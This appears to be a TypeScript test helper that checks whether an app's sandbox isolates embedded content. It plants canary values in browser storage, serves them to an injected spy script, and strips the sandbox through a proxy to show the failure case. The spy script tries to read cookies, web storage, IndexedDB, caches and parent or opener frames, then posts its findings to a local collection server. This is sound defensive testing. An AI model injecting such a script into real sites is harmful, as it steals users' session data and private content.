import { request as ask, createServer } from 'node:http'
import { text } from 'node:stream/consumers'
import type { Page } from 'playwright-core'
import { afterAll, expect, onTestFinished } from 'vitest'
import { freePort } from '../../../scripts/free-port.ts'

/** The result of each attempt: that it was blocked, or what leaked. */
export type Found = Record<string, string>

/** Receives stolen data: on the app's own host, at another port, so that cookies would be included if possible. */
export async function startSink() {
  const reports: Found[] = []
  const cookies: string[] = []
  const port = await freePort()
  const server = createServer((request, response) => {
    cookies.push(request.headers.cookie ?? '')
    if (request.url === '/found')
      void text(request).then((body) => reports.push(JSON.parse(body) as Found))
    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' })
    response.end('<title>Taken</title>')
  })
  server.on('upgrade', (request, socket) => {
    cookies.push(request.headers.cookie ?? '')
    socket.destroy()
  })
  server.listen(port, '127.0.0.1')
  afterAll(() => {
    server.closeAllConnections()
    server.close()
  })
  return {
    url: `http://localhost:${port}`,
    /** What the next spy reports, and every cookie that arrived in the meantime. */
    async next(act: () => Promise<unknown>): Promise<{ found: Found; cookies: string }> {
      reports.length = 0
      cookies.length = 0
      await act()
      await expect.poll(() => reports.length).toBeGreaterThan(0)
      return { found: reports[0]!, cookies: cookies.join('\n') }
    },
  }
}

/**
 * Tries every way out of its page, and reports what it found. If another page should reply, it waits for that;
 * otherwise "no reply" is reported once everything else has finished.
 */
export const spyCode = (sink: string, { waitsForReply = false } = {}) => `<script>
const ways = {
  origin: () => origin,
  cookie: () => document.cookie,
  localStorage: () => JSON.stringify({ ...localStorage }),
  sessionStorage: () => JSON.stringify({ ...sessionStorage }),
  indexedDB: () => new Promise((resolve, reject) => {
    const opening = indexedDB.open('canary')
    opening.onerror = reject
    opening.onsuccess = () => {
      const reading = opening.result.transaction('all').objectStore('all').get('secret')
      reading.onerror = reject
      reading.onsuccess = () => resolve(reading.result)
    }
  }),
  caches: async () => (await (await caches.open('canary')).match('/canary')).text(),
  opener: () => opener.document.title,
  parent: () => (parent === window ? 'none' : parent.document.body.textContent),
  parentAddress: () => (parent === window ? 'none' : parent.location.href),
  parentStorage: () => (parent === window ? 'none' : parent.localStorage.secret),
  parentHistory: () => (parent === window ? 'none' : parent.history.length),
  serviceWorker: async () => (await navigator.serviceWorker.register('/embed.js')).scope,
  fetch: async () => (await fetch('/api/user', { credentials: 'include' })).status,
  page: async () => (await fetch('/home', { credentials: 'include' })).text(),
  credentials: async () => (await fetch('${sink}/', { mode: 'no-cors', credentials: 'include' })).type,
  socket: () => new Promise((resolve) => {
    new WebSocket('${sink}'.replace('http', 'ws')).onerror = () => resolve('closed')
  }),
  name: () => window.name,
  top: () => { if (top !== window) top.location.href = '${sink}/' },
  back: () => { if (top !== window) history.go(-1) },
}
const found = {}
const look = async ([way, read]) => {
  try { found[way] = String(await read()) } catch (error) { found[way] = 'refused ' + error.name }
}
const broadcast = () => new Promise((resolve) => {
  const channel = new BroadcastChannel('canary')
  channel.onmessage = ({ data }) => resolve(data)
  channel.postMessage('ask')
})
const reply = broadcast()
Promise.all(Object.entries(ways).map(look))
  .then(() => look(['broadcast', () => ${waitsForReply ? 'reply' : "Promise.race([reply, 'nothing'])"}]))
  .then(() => fetch('${sink}/found', { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) }))
</script>`

/** The app as if it forgot the sandbox: a proxy removes it from every policy. */
export async function startWithoutSandbox(app: string): Promise<string> {
  const port = await freePort()
  const { port: appPort } = new URL(app)
  const server = createServer((incoming, outgoing) => {
    const { method, url: path, headers } = incoming
    const passed = ask({ port: appPort, method, path, headers }, (answer) => {
      const policy = String(answer.headers['content-security-policy'] ?? '')
      outgoing.writeHead(answer.statusCode!, {
        ...answer.headers,
        'content-security-policy': policy.replace(/^sandbox [^;]+;/, ''),
      })
      answer.pipe(outgoing)
    })
    incoming.pipe(passed)
  }).listen(port, '127.0.0.1')
  onTestFinished(() => {
    server.closeAllConnections()
    server.close()
  })
  return `http://localhost:${port}`
}

/** Puts canaries wherever the browser stores data for the page's origin, and answers messages. */
export async function hideCanaries(page: Page): Promise<void> {
  await page.evaluate(async () => {
    document.title = 'canary-opener'
    window.name = 'canary-name'
    localStorage.setItem('secret', 'canary-local')
    sessionStorage.setItem('secret', 'canary-session')
    const cache = await caches.open('canary')
    await cache.put('/canary', new Response('canary-cache'))
    const channel = new BroadcastChannel('canary')
    // oxlint-disable-next-line unicorn/require-post-message-target-origin -- a channel is limited to one origin
    channel.addEventListener('message', () => channel.postMessage('canary-broadcast'))
    await new Promise<void>((resolve, reject) => {
      const opening = indexedDB.open('canary')
      opening.addEventListener('upgradeneeded', () => opening.result.createObjectStore('all'))
      opening.addEventListener('error', () => reject(new Error('no database')))
      opening.addEventListener('success', () => {
        const writing = opening.result.transaction('all', 'readwrite')
        writing.objectStore('all').put('canary-database', 'secret')
        writing.addEventListener('complete', () => resolve())
      })
    })
  })
}

/** The attempts that leaked something. */
export const leaks = (found: Found): string[] =>
  Object.entries(found).flatMap(([way, value]) => (value.includes('canary') ? [way] : []))
